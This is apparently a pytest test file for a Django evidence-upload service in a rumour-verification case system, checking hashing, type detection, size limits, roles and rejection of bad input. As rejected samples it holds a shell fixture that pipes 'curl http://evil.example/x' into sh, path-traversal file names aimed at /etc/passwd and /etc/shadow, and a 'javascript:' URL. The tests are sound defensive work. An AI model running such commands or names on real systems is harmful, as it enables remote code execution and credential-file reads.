"""Evidence files: hash and size from the bytes, type from the content, size capped, nothing overwritten."""

import hashlib
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from rumorcases.cases import services as case_services
from rumorcases.cases import workflow
from rumorcases.cases.models import EvidenceItem
from rumorcases.core.exceptions import ApplicationError
from rumorcases.core.models import AuditEvent
from tests.conftest import PNG

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
EXE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
       + b"This program cannot be run in DOS mode.")
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("inside.txt", "hello")
    return buffer.getvalue()


@pytest.fixture
def media(media_root):
    return media_root  # the shared per-test upload folder (tests/conftest.py)


def files_in(root) -> list:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.fixture
def case(build, media):
    return build.verifying()


def add(case, by, content=PNG, name="shot.png", **kwargs):
    return case_services.evidence_add(case=case, upload=SimpleUploadedFile(name, content), by=by, **kwargs)


def snapshot():
    return EvidenceItem.objects.count(), AuditEvent.objects.count()


def test_it_stores_hash_size_and_type_from_the_bytes(case, cast, media):
    item = add(case, cast.verifier, source_url="https://weibo.example/p/1", description="原帖截图")
    item.refresh_from_db()
    assert item.sha256 == hashlib.sha256(PNG).hexdigest()
    assert item.size == len(PNG)
    assert item.content_type == "image/png"
    assert item.uploaded_by == cast.verifier
    assert item.original_name == "shot.png"
    with item.file.open("rb") as stored:
        assert stored.read() == PNG
    assert len(files_in(media)) == 1
    event = AuditEvent.objects.get(action="evidence.added")
    assert event.data["sha256"] == item.sha256
    assert event.case_reference == case.reference


def test_it_detects_the_type_from_the_content_not_the_name(case, cast, media):
    item = add(case, cast.verifier, name="x.pdf")
    assert item.content_type == "image/png"
    assert item.file.name.endswith(".png")
    assert item.original_name == "x.pdf"
    pdf = add(case, cast.verifier, content=PDF, name="scan.png")
    assert pdf.content_type == "application/pdf"


@pytest.mark.parametrize(
    "content",
    [EXE, SHELL, zip_bytes()],
    ids=["windows-exe", "shell-script", "zip"],
)
def test_it_refuses_forbidden_types_whatever_their_name(case, cast, media, content):
    before = snapshot()
    with pytest.raises(ApplicationError) as refused:
        add(case, cast.verifier, content=content, name="photo.png")
    assert refused.value.code == "evidence_type_forbidden"
    assert refused.value.status_code == 415
    assert "file" in refused.value.fields
    assert snapshot() == before
    assert files_in(media) == []


def test_it_refuses_a_file_over_the_cap(case, cast, media, settings):
    settings.EVIDENCE_MAX_BYTES = len(PNG) - 1
    before = snapshot()
    with pytest.raises(ApplicationError) as refused:
        add(case, cast.verifier)
    assert refused.value.code == "evidence_too_large"
    assert refused.value.status_code == 413
    assert snapshot() == before
    assert files_in(media) == []
    settings.EVIDENCE_MAX_BYTES = len(PNG)
    assert add(case, cast.verifier).size == len(PNG)


def test_it_counts_the_bytes_when_the_upload_does_not_say_its_size(case, cast, media, settings):
    class Stream:
        """An upload that declares no size: the cap must hold on what is actually read."""

        name = "stream.png"

        def chunks(self):
            yield PNG[:40]
            yield PNG[40:]

    settings.EVIDENCE_MAX_BYTES = 50
    before = snapshot()
    with pytest.raises(ApplicationError) as refused:
        case_services.evidence_add(case=case, upload=Stream(), by=cast.verifier)
    assert refused.value.code == "evidence_too_large"
    assert snapshot() == before
    assert files_in(media) == []


def test_it_refuses_an_empty_file(case, cast, media):
    before = snapshot()
    with pytest.raises(ApplicationError) as refused:
        add(case, cast.verifier, content=b"")
    assert refused.value.code == "invalid"
    assert "file" in refused.value.fields
    assert snapshot() == before
    assert files_in(media) == []


@pytest.mark.parametrize("name", ["../../etc/passwd.png", "..\\..\\windows\\evil.png", "/etc/shadow.png"])
def test_it_never_stores_under_the_name_it_was_given(case, cast, media, name):
    item = add(case, cast.verifier, name=name)
    assert item.file.name.startswith("evidence/")
    assert ".." not in item.file.name
    assert "passwd" not in item.file.name and "evil" not in item.file.name and "shadow" not in item.file.name
    assert "/" not in item.original_name and "\\" not in item.original_name
    assert not item.original_name.startswith(".")
    stored = files_in(media)
    assert len(stored) == 1
    assert stored[0].resolve().is_relative_to((media / "evidence").resolve())


def test_it_never_overwrites_identical_uploads(case, cast, media):
    first = add(case, cast.verifier)
    second = add(case, cast.verifier)
    assert first.file.name != second.file.name
    assert first.sha256 == second.sha256
    assert len(files_in(media)) == 2


def test_it_changes_only_the_description(case, cast, media):
    item = add(case, cast.verifier, description="旧说明")
    before = EvidenceItem.objects.values("file", "sha256", "size", "content_type", "uploaded_by").get(pk=item.pk)
    case_services.evidence_update_description(item=item, description="新说明：原帖于当日删除", by=cast.intake)
    item.refresh_from_db()
    assert item.description == "新说明：原帖于当日删除"
    assert EvidenceItem.objects.values("file", "sha256", "size", "content_type", "uploaded_by").get(
        pk=item.pk) == before
    with item.file.open("rb") as stored:
        assert hashlib.sha256(stored.read()).hexdigest() == item.sha256
    assert AuditEvent.objects.filter(action="evidence.described", object_id=str(item.pk)).count() == 1


def test_it_refuses_a_user_without_a_role(case, cast, media):
    before = snapshot()
    with pytest.raises(ApplicationError) as refused:
        add(case, cast.nobody)
    assert refused.value.code == "not_your_role"
    assert snapshot() == before
    assert files_in(media) == []
    item = add(case, cast.verifier, description="原")
    with pytest.raises(ApplicationError) as refused:
        case_services.evidence_update_description(item=item, description="改", by=cast.nobody)
    assert refused.value.code == "not_your_role"
    item.refresh_from_db()
    assert item.description == "原"


def test_it_refuses_evidence_on_a_closed_case(case, cast, media):
    workflow.case_close_unverifiable(case=case, by=cast.supervisor, reason="无法联系当事人")
    before = snapshot()
    with pytest.raises(ApplicationError) as refused:
        add(case, cast.supervisor)
    assert refused.value.code == "invalid"
    assert refused.value.status_code == 409
    assert snapshot() == before
    assert files_in(media) == []


def test_it_refuses_a_report_of_another_case(case, cast, media, build):
    other = build.discovered()
    before = snapshot()
    with pytest.raises(ApplicationError) as refused:
        add(case, cast.verifier, report=other.reports.get())
    assert "report" in refused.value.fields
    assert snapshot() == before
    assert files_in(media) == []


def test_it_refuses_a_bad_source_url(case, cast, media):
    before = snapshot()
    with pytest.raises(ApplicationError) as refused:
        add(case, cast.verifier, source_url="javascript:alert(1)")
    assert "source_url" in refused.value.fields
    assert snapshot() == before
    assert files_in(media) == []
